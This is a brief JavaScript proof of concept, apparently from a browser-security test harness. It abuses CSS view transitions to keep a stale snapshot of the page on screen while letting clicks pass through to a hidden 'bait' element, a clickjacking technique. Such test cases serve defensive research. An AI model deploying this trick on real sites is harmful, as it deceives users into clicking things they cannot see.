/* Attack: a view transition is drawn above the top layer. It shows what the page looked like before, for as long as the
   attacker likes, and lets clicks through. */
import { lure, mine } from "../lure.js";

lure({
  onOffer: () => {},
  onBait: (bait) => {
    const style = document.createElement("style");
    style.textContent = `
      :root { view-transition-name: none; }
      #cover { background: white; inset: 0; position: fixed; view-transition-name: cover; z-index: 1; }
      ::view-transition, ::view-transition-group(cover) { pointer-events: none; }
      ::view-transition-old(cover) { animation: stay 1000s; opacity: 1; }
      @keyframes stay { from { opacity: 1; } to { opacity: 1; } }`;
    const cover = mine(document.createElement("div"));
    cover.id = "cover";
    document.head.append(style);
    document.body.append(cover);
    document.startViewTransition?.(() => {
      cover.remove();
      document.body.append(bait);
    });
  },
});
